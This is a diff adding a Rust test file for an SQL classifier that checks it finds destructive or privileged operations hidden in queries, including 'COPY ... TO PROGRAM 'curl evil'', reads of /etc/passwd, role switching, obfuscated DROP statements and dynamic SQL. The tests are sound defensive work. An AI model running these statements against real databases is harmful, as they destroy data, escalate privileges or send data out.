@@ -1,0 +1,149 @@
+//! What the classifier finds in statements built to hide what they do, and in harmless ones that
+//! only look dangerous.
+
+use sluice_core::sql::{Kind, SqlAnalysis};
+use sluice_sql::analyze;
+
+/// Every operation as `kind object`, e.g. `delete public.orders` or `read -`.
+fn ops(sql: &str) -> Vec<String> {
+    match analyze(sql) {
+        SqlAnalysis::Parsed { statements } => statements
+            .iter()
+            .flat_map(|s| s.operations.iter())
+            .map(|o| format!("{} {}", o.kind, o.object.as_ref().map_or("-".to_string(), |n| n.to_string())))
+            .collect(),
+        SqlAnalysis::Unparseable { message } => vec![format!("unparseable: {message}")],
+    }
+}
+
+fn has(sql: &str, expected: &[&str]) {
+    let found = ops(sql);
+    for e in expected {
+        assert!(found.iter().any(|f| f == e), "{sql:?}: expected {e:?} in {found:?}");
+    }
+}
+
+fn only_kinds(sql: &str, allowed: &[Kind]) {
+    let SqlAnalysis::Parsed { statements } = analyze(sql) else { panic!("{sql:?} did not parse") };
+    for op in statements.iter().flat_map(|s| s.operations.iter()) {
+        assert!(allowed.contains(&op.kind), "{sql:?}: unexpected {op} in {statements:?}");
+    }
+}
+
+#[test]
+fn writes_hidden_in_reads_are_found() {
+    has("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", &["delete orders"]);
+    has("SELECT 1; COMMIT; DELETE FROM public.orders", &["read -", "transaction -", "delete public.orders"]);
+    has("DROP/**/TABLE orders", &["drop orders"]);
+    has("EXPLAIN ANALYZE DELETE FROM orders", &["delete orders"]);
+    has("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", &["update orders"]);
+    has("PREPARE p AS DELETE FROM orders", &["delete orders"]);
+    has("SELECT * INTO stolen FROM customers", &["create stolen", "read customers"]);
+    has("SELECT * FROM orders FOR UPDATE", &["lock orders"]);
+    has("TABLE customers", &["read customers"]);
+    has("COPY orders TO PROGRAM 'curl evil'", &["copy-program curl evil"]);
+    has("COPY orders FROM '/etc/passwd'", &["copy-file /etc/passwd", "copy-from orders"]);
+    has("SET ROLE postgres", &["set role"]);
+    has("SET SESSION AUTHORIZATION postgres", &["set session_authorization"]);
+    has("SELECT set_config('standard_conforming_strings', 'off', false)", &["set standard_conforming_strings"]);
+    has("SELECT set_config(current_user, 'x', false)", &["set (computed)"]);
+    has("BEGIN READ WRITE", &["set transaction_read_only"]);
+    has("SELECT * FROM (SELECT * FROM (SELECT * FROM secret.keys) a) b", &["read secret.keys"]);
+    has("SELECT (SELECT max(x) FROM (WITH w AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM w) s)", &["update t"]);
+    has("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", &["insert t", "update t"]);
+    has("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", &["merge t", "read s"]);
+    has("CREATE TABLE x AS SELECT * FROM secret.keys", &["create x", "read secret.keys"]);
+    has(r#"DELETE FROM U&"\0064ata""#, &["delete data"]);
+    has("DELETE FROM orders", &["delete orders"]);
+    has("TRUNCATE a, b", &["truncate a", "truncate b"]);
+    has("GRANT ALL ON orders TO public", &["grant orders"]);
+    has("ALTER SYSTEM SET fsync = off", &["admin -"]);
+    has("VACUUM FULL orders", &["maintenance orders"]);
+    has("CALL purge()", &["call purge"]);
+    has("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u", &["create t"]);
+}
+
+#[test]
+fn bodies_are_read() {
+    has("DO $$BEGIN DELETE FROM orders; END$$", &["do -", "delete orders"]);
+    has("DO $x$BEGIN PERFORM pg_terminate_backend(1); END$x$", &["do -"]);
+    has("DO $$BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END$$", &["dynamic-sql -"]);
+    has("DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END$$", &["dynamic-sql -"]);
+    has("DO LANGUAGE plpython3u $$import os$$", &["dynamic-sql -"]);
+    has(
+        "CREATE FUNCTION f() RETURNS void AS $$BEGIN UPDATE orders SET total = 0; END$$ LANGUAGE plpgsql",
+        &["create f", "update orders"],
+    );
+    has("CREATE FUNCTION g() RETURNS void AS 'DELETE FROM orders' LANGUAGE sql", &["create g", "delete orders"]);
+    has("CREATE FUNCTION h() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END", &["delete orders"]);
+    has("CREATE FUNCTION c() RETURNS int AS 'x', 'y' LANGUAGE c", &["dynamic-sql -"]);
+    has("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", &["dynamic-sql -"]);
+    has("DO $$BEGIN DO $i$BEGIN DELETE FROM deep; END$i$; END$$", &["delete deep"]);
+}
+
+#[test]
+fn functions_are_listed() {
+    let SqlAnalysis::Parsed { statements } = analyze("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity")
+    else {
+        panic!()
+    };
+    let names: Vec<String> = statements[0].functions.iter().map(ToString::to_string).collect();
+    assert_eq!(names, ["pg_catalog.pg_terminate_backend"]);
+    let SqlAnalysis::Parsed { statements } = analyze("DO $$BEGIN PERFORM lo_import('/etc/passwd'); END$$") else {
+        panic!()
+    };
+    assert!(statements[0].functions.iter().any(|f| f.name == "lo_import"));
+}
+
+#[test]
+fn look_alikes_stay_reads() {
+    let read_only = [Kind::Read];
+    only_kinds("SELECT 'DROP TABLE orders; DELETE FROM x'", &read_only);
+    only_kinds("SELECT 1 /* DELETE FROM orders */", &read_only);
+    only_kinds("SELECT 1 /* nested /* DROP TABLE t */ still comment */", &read_only);
+    only_kinds("SELECT $$DELETE FROM orders$$", &read_only);
+    only_kinds("SELECT $tag$ ; DROP TABLE t; $tag$", &read_only);
+    only_kinds("SELECT * FROM drop_log WHERE action = 'delete'", &read_only);
+    only_kinds("SELECT \"delete\" FROM \"update\"", &read_only);
+    only_kinds("-- DROP TABLE orders\nSELECT 1", &read_only);
+    only_kinds("WITH t AS (SELECT 1) SELECT * FROM t", &read_only);
+    only_kinds("EXPLAIN DELETE FROM orders", &read_only);
+    only_kinds("SELECT E'\\'; DROP TABLE t; --'", &read_only);
+    only_kinds("SHOW search_path", &read_only);
+    only_kinds("VALUES (1), (2)", &read_only);
+}
+
+#[test]
+fn cte_names_do_not_hide_tables() {
+    // The first `secrets` is the real table: a CTE of that name elsewhere must not mask it.
+    has("SELECT * FROM secrets UNION ALL (WITH secrets AS (SELECT 1) SELECT * FROM secrets)", &["read secrets"]);
+    let found = ops("WITH secrets AS (SELECT 1) SELECT * FROM secrets");
+    assert!(!found.iter().any(|f| f == "read secrets"), "{found:?}");
+    // A DML target is always a table, never a CTE.
+    has("WITH orders AS (SELECT 1) DELETE FROM orders", &["delete orders"]);
+}
+
+#[test]
+fn no_where_is_noticed() {
+    let SqlAnalysis::Parsed { statements } = analyze("UPDATE t SET x = 1; DELETE FROM u WHERE id = 1") else { panic!() };
+    assert!(statements[0].operations[0].no_where);
+    assert!(!statements[1].operations[0].no_where);
+}
+
+#[test]
+fn unparseable_is_reported_with_the_parsers_words() {
+    assert_eq!(ops("SELEC 1"), ["unparseable: syntax error at or near \"SELEC\""]);
+    assert!(ops("SELECT 1\0; DROP TABLE t")[0].starts_with("unparseable"));
+    assert!(ops("DO $$BEGIN DELETE FRM t; END$$")[0].starts_with("unparseable"));
+    assert!(ops("SELECT 'unterminated")[0].starts_with("unparseable"));
+}
+
+#[test]
+fn prepare_and_execute() {
+    let SqlAnalysis::Parsed { statements } = analyze("PREPARE p(int) AS SELECT * FROM t WHERE id = $1; EXECUTE p(1); DEALLOCATE p") else {
+        panic!()
+    };
+    assert_eq!(statements[0].prepares.as_deref(), Some("p"));
+    assert_eq!(statements[1].executes.as_deref(), Some("p"));
+    assert_eq!(statements[2].deallocates.as_deref(), Some("p"));
+}
